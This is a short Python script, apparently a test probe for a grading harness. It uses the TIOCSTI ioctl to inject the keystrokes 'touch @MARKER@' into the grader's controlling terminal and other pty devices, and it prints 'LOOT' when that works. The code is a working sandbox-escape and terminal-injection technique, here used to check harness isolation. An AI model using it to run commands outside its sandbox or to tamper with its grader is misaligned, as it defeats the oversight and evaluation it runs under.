"""Types commands into the terminal that the grader was started from.

earns: 0
"""

# %%
import fcntl
import glob
import os

TYPE_A_LETTER = 0x5412
for path in ["/dev/tty", "/dev/console", "/proc/1/fd/0", *glob.glob("/dev/pts/*")]:
    for number in (None, 0, 1, 2):
        try:
            opened = os.open(path, os.O_RDWR) if number is None else number
            for letter in b"touch @MARKER@\n":
                fcntl.ioctl(opened, TYPE_A_LETTER, bytes([letter]))
            print("LO" + "OT", path, number)
        except OSError:
            pass
